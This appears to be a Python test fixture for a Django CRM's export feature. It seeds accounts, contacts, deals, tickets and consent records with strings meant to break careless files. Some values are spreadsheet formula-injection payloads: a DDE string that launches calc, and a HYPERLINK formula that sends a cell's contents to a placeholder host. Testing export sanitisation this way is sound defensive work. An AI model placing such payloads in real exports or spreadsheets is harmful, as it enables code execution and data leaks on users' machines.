"""A small world with one of everything an export has to carry, and texts that break careless files."""

from __future__ import annotations

from datetime import date, timedelta
from decimal import Decimal
from typing import Any

from django.db import transaction

from crmgov.kernel.actors import Actor, ActorType
from crmgov.people.models import Role, User
from crmgov.records.models import (
    Account,
    Activity,
    Consent,
    Contact,
    ExchangeRate,
    ExternalId,
    Opportunity,
    Product,
    Source,
    Stage,
    Suppression,
)
from crmgov.records.services import consent
from tests.world import (
    NOW,
    a_contact,
    a_team,
    a_ticket,
    a_user,
    an_account,
    an_opportunity,
    change,
    create,
)

SOURCE = "Old CRM"
FORMULA = '=HYPERLINK("http://example.invalid?x="&A1,"Click")'
# Quotes, both line ends, separators, an emoji, right-to-left text, and what a file of ours might take for its own.
TEXT = "Said “no”, then \"yes\";\r\nsecond line\nthird,\tend 🚚 שלום 'quoted'"
LATER = NOW + timedelta(days=2)


def known(record: Any, value: str, *, kind: str = "", last_seen: dict[str, Any] | None = None) -> None:
    """Give a record an id in the source."""
    source, _ = Source.objects.get_or_create(
        name=SOURCE, defaults={"kind": Source.Kind.IMPORT, "trust_rank": 10}
    )
    record_type = record._meta.model_name.replace("buyingrole", "buying_role")
    ExternalId.objects.create(
        source=source,
        kind=kind or record_type,
        value=value,
        record_type=record_type,
        record_id=record.pk,
        last_seen=last_seen or {"name": "x"},
    )


def build() -> None:
    """Make it: through the door and the services, as everybody does."""
    north = a_team("North")
    priya = a_user("Priya Nair", Role.ACCOUNT_MANAGER, north)
    gone = a_user("Henrik Dahl", Role.ACCOUNT_MANAGER)
    User.objects.filter(pk=gone.pk).update(is_active=False)
    for position, (name, kind) in enumerate((("Proposal", "open"), ("Signed", "won"), ("Nothing", "lost"))):
        Stage.objects.create(name=name, kind=kind, position=position)
    Product.objects.create(name="Fleet", family="Tracking", list_price=Decimal("39.00"))
    ExchangeRate.objects.create(currency="USD", day=date(2026, 1, 1), rate=Decimal("0.91"))
    halden, branch = _accounts(north, priya, gone)
    maya, lead = _contacts(halden, priya)
    deal = _deals(halden, branch, maya, priya)
    _tickets_and_tasks(halden, maya, deal, priya)
    _timeline(halden, maya, deal, lead)
    _permissions(halden, maya, lead)


def _accounts(north: Any, priya: User, gone: User) -> tuple[Account, Account]:
    halden = an_account(
        "=SUM(A1:A9) Halden", domain="halden.example", segment="mid", owner=priya.pk, team=north.pk,
        annual_value="184000.50", currency="EUR", lifecycle="churned", employees=380, region="@Nordics",
        renewal_date="2027-01-31", strategic=True, relationship_flags=["partner", "investor"],
        tags=["cold chain", "fleet; two words", "[a list]"],
        **{"extra.ERP number": "-71001", "extra.Industry": "kept as it came", "extra.crmgov_region": "a trap",
           "extra.Phone": "'=1+1",
           "extra.=cmd|' /C calc'!A0": "kept", "extra.Associated Company IDs": "9;8"},
    )  # fmt: skip
    known(halden, "A-1")
    branch = an_account("Halden Branch", parent=str(halden.pk), owner=gone.pk, lifecycle="mql")
    archived = an_account("Closed down", parent=str(halden.pk))
    change("account", archived.pk, archived_at=NOW)
    change("account", halden.pk, at=LATER, employees=420, owner=gone.pk, tags=["fleet"], region="")
    change("account", halden.pk, at=LATER, employees=421)
    return halden, branch


def _contacts(halden: Account, priya: User) -> tuple[Contact, Contact]:
    maya = a_contact(
        account=str(halden.pk), email="maya@halden.example", phone="+4722334455", title=TEXT[:160],
        language="no", time_zone="Europe/Oslo", lifecycle="customer", owner=priya.pk, source="+Fair",
    )  # fmt: skip
    known(maya, "003-1")
    lead = a_contact("Lund", first_name="Ida", email="ida@lund.example", lifecycle="lead", lead_score="12.50")
    known(lead, "00Q-1", kind="lead")
    return maya, lead


def _deals(halden: Account, branch: Account, maya: Contact, priya: User) -> Opportunity:
    deal = an_opportunity(
        "-2+3 roll-out", account=str(halden.pk), stage="Proposal", amount="96000.00", currency="EUR",
        close_date="2026-12-24", forecast_category="commit", product="Fleet", next_step=TEXT, owner=priya.pk,
        pricing_notes="12 % for three years",
    )  # fmt: skip
    known(deal, "D-1")
    lost = an_opportunity(
        "Lost", account=str(branch.pk), stage="Nothing", closed_reason="Price", amount="1.00"
    )
    an_opportunity("Won", stage="Signed", closed_reason="They like us")
    an_opportunity("Waits", stage="Proposal", closed_reason="Too early to say")
    create("buying_role", opportunity=str(deal.pk), contact=str(maya.pk), role="champion")
    create("buying_role", opportunity=str(lost.pk), contact=str(maya.pk), role="economic_buyer")
    change("opportunity", deal.pk, at=LATER, amount="98000.00", stage="Signed", next_step="")
    return deal


def _tickets_and_tasks(halden: Account, maya: Contact, deal: Opportunity, priya: User) -> None:
    ticket = a_ticket(
        TEXT[:300], account=str(halden.pk), contact=str(maya.pk), body="\tstarts with a tab", status="resolved",
        priority="urgent", channel="email", escalated=True, product="Fleet", resolved_at=NOW + timedelta(hours=3),
    )  # fmt: skip
    a_ticket("Waiting", status="waiting", priority="normal", channel="phone")
    create("task", title="Call back", note=TEXT, assignee=priya.pk, due_on="2026-11-30", account=str(halden.pk),
           contact=str(maya.pk), opportunity=str(deal.pk), ticket=str(ticket.pk))  # fmt: skip
    create("task", title="Done", assignee=priya.pk, account=str(halden.pk), done_at=NOW, purpose="follow-up")


def _timeline(halden: Account, maya: Contact, deal: Opportunity, lead: Contact) -> None:
    for place, kind in enumerate(("mail_in", "mail_out", "reply", "call", "meeting", "note", "purchase")):
        Activity.objects.create(
            kind=kind, account=halden, contact=maya, opportunity=deal if place % 2 else None, team=halden.team,
            occurred_at=NOW - timedelta(days=place, microseconds=place), recorded_at=NOW, subject=f"={kind}",
            body=TEXT, by="Maya Lind", amount=Decimal("-5.00") if kind == "purchase" else None,
            currency="EUR" if kind == "purchase" else "",
            data={"page": "Pricing", "Record ID": "taken", "=cmd|' /C calc'!A0": "=1+1", "visits": 3, "ä": ["x;y"]},
        )  # fmt: skip
    Activity.objects.create(
        kind="page_view", contact=lead, occurred_at=NOW, recorded_at=NOW, subject="Pricing"
    )


@transaction.atomic
def _permissions(halden: Account, maya: Contact, lead: Contact) -> None:
    somebody = Actor(ActorType.HUMAN, "0", "A tester")
    said: list[tuple[Contact, str, str, str]] = [
        (maya, "email", "newsletter", Consent.State.OPTED_IN),
        (maya, "email", "any", Consent.State.OPTED_OUT),
        (maya, "phone", "any", Consent.State.OPTED_OUT),
        (lead, "email", "newsletter", Consent.State.UNKNOWN),
    ]
    for days, (contact, channel, purpose, state) in enumerate(said):
        consent.record(
            contact=contact, channel=channel, purpose=purpose, state=state, lawful_basis="consent",
            source="=Web form", actor=somebody, at=NOW - timedelta(days=9 - days),
        )  # fmt: skip
    Suppression.objects.create(
        kind="address", value="never@halden.example", reason="asked", added_by="x", added_at=NOW
    )
    Suppression.objects.create(
        kind="account", account=halden, reason=TEXT[:300], added_by="x", added_at=NOW, until=LATER
    )
    Suppression.objects.create(
        kind="domain", value="lifted.example", reason="over", added_by="x", added_at=NOW, sole_admin=True,
        lift_asked_by=halden.owner, lift_asked_at=NOW, lifted_by=halden.owner, lifted_at=LATER,
    )  # fmt: skip
